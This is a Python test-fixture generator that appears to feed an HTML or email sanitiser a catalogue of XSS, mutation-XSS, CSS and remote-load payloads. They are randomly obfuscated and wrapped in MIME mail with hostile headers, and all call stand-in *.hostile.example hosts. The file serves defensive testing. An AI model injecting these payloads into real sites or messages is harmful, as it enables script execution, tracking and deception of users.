"""HTML that wants to run, to fetch or to deceive: each threat in many dresses, drawn by a seed.

Every script in it says `hostile` on the console; every address in it is on `*.hostile.example`.
"""

import random
from email.message import EmailMessage

SCRIPT = "console.log('hostile');fetch('https://run.hostile.example/')"
FETCH = "https://fetch.hostile.example/x"
CALL = f"javascript:{SCRIPT}"
EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerrawupdate", "onscroll", "onbegin")  # fmt: skip

THREATS = (
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT/x>{SCRIPT}</SCRIPT>",
    f"<script src='{FETCH}'></script>",
    f"<script type=module>import '{FETCH}'</script>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f'<img src=x {{event}}="{SCRIPT}">',
    f"<img/src='x'/{{event}}={SCRIPT.replace(' ', '')}>",
    f'<body {{event}}="{SCRIPT}">',
    f'<details open {{event}}="{SCRIPT}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{SCRIPT}">',
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg {{event}}=\"{SCRIPT}\"><image href='{FETCH}'/></svg>",
    f'<svg><style><img src=x onerror="{SCRIPT}"></style></svg>',
    f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    f"<svg><foreignObject><iframe src='{FETCH}'></iframe></foreignObject></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{SCRIPT}"></style></mglyph></table></mtext></math>',
    f"<math href='{CALL}'>x</math>",
    f"<a href='{CALL}' id=x>click</a>",
    f"<a href='java&#09;script:{SCRIPT}'>click</a>",
    f"<a href='&#x6A;avascript&colon;{SCRIPT}'>click</a>",
    f"<a href='\x01javascript:{SCRIPT}'>click</a>",
    f"<a href='vbscript:{SCRIPT}'>click</a>",
    f"<a href='data:text/html,<script>{SCRIPT}</script>'>click</a>",
    f"<a href=https://bank.hostile.example/ ping='{FETCH}'>click</a>",
    f"<iframe src='{FETCH}'></iframe>",
    f"<iframe srcdoc='<script>parent.postMessage(1)</script><img src={FETCH}>'></iframe>",
    f"<iframe src='{CALL}'></iframe>",
    f"<object data='{FETCH}'></object><embed src='{FETCH}'><applet code='{FETCH}'></applet>",
    f"<object data='data:text/html,<script>{SCRIPT}</script>'></object>",
    f"<meta http-equiv=refresh content='0;url={FETCH}'>",
    f"<meta http-equiv=refresh content='0;url={CALL}'>",
    f"<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src='{FETCH}'>",
    f"<base href='{FETCH}/'><img src='a.png'><a href='b'>x</a>",
    f"<form action='{FETCH}'><input name=p><button autofocus formaction='{CALL}'>x</button></form>",
    f"<link rel=stylesheet href='{FETCH}'><link rel=prefetch href='{FETCH}'><link rel=dns-prefetch href='//dns.hostile.example'>",
    f"<style>@import '{FETCH}';body{{{{background:url({FETCH})}}}}</style>",
    f"<style>@font-face{{{{font-family:x;src:url({FETCH})}}}}p{{{{font-family:x}}}}</style><p>x</p>",
    f'<p style="background:url({FETCH})">x</p>',
    f'<p style="background:u\\72l({FETCH})">x</p>',
    f'<p style="color:expression({SCRIPT})">x</p>',
    f'<p style="-moz-binding:url({FETCH})">x</p>',
    f'<p style="width:1px;content:url({FETCH});list-style:url({FETCH});cursor:url({FETCH}),auto">x</p>',
    f"<p style=\"background-color:red;background-image:image-set('{FETCH}' 1x)\">x</p>",
    '<div style="position:fixed;inset:0;z-index:99999">over everything</div>',
    f"<img src='{FETCH}' srcset='{FETCH} 2x' lowsrc='{FETCH}' dynsrc='{FETCH}' longdesc='{FETCH}'>",
    "<img src='//scheme.hostile.example/x'><img src='/messages'><img src='cid:none@x'>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'/>\">",
    f"<picture><source srcset='{FETCH}'><img src='{FETCH}'></picture>",
    f"<video src='{FETCH}' poster='{FETCH}' autoplay></video><audio src='{FETCH}' autoplay></audio>",
    f"<table background='{FETCH}'><tr><td background='{FETCH}'>x</td></tr></table><body background='{FETCH}'>",
    f"<bgsound src='{FETCH}'><frameset><frame src='{FETCH}'></frameset>",
    f"<template><img src='{FETCH}'></template><noscript><img src='{FETCH}'></noscript>",
    f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></noscript>',
    f'<textarea><img title="</textarea><img src=x onerror={SCRIPT}>"></textarea>',
    f'<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]--><!--><img src=x onerror="{SCRIPT}">-->',
    f'<xmp><p title="</xmp><img src=x onerror={SCRIPT}>">',
    f'<title><a title="</title><img src=x onerror={SCRIPT}>">',
    f"</body></html><script>{SCRIPT}</script>",
    f"</iframe></div></main><script>{SCRIPT}</script><img src='{FETCH}'>",
    f"<plaintext><script>{SCRIPT}</script>",
    f'<custom-element {{event}}="{SCRIPT}" is=x>x</custom-element>',
    f'<p {{event}}="{SCRIPT}" tabindex=1 accesskey=x contenteditable>x</p>',
    "<a id=attributes name=forms class=brand>clobber</a><form id=x name=body><input name=attributes></form>",
)  # fmt: skip


def markup(chance: random.Random) -> str:
    """Some of the threats, in a random dress: nested, unclosed, in other cases, with NULs."""
    drawn = [one.format(event=chance.choice(EVENTS)) for one in chance.sample(THREATS, 4)]
    for place, one in enumerate(drawn):
        dress = chance.randrange(6)
        if dress == 0:
            drawn[place] = f"<div><table><tr>{one}"
        elif dress == 1:
            drawn[place] = (
                "".join(c.upper() if chance.random() < 0.3 else c for c in one[:12]) + one[12:]
            )
        elif dress == 2:
            drawn[place] = one.replace("<", "<\x00", 1)
        elif dress == 3:
            drawn[place] = f"<p title='{one[:20]}\">{one}"
    return f"<html><body><p>Read me</p>{''.join(drawn)}"


def mail(html: str) -> bytes:
    """A mail of such HTML alone, headers hostile too."""
    made = EmailMessage()
    made["From"] = "\"<script>console.log('hostile')</script>\" <anna@example.net>"
    made["Subject"] = "<img src=x onerror=\"console.log('hostile')\">"
    made.set_content(html.replace("\x00", "&#0;"), subtype="html", cte="base64")
    return made.as_bytes()


def all_threats() -> list[str]:
    """Each of them by itself."""
    return [f"<p>Read me</p>{one.format(event='onerror')}" for one in THREATS]
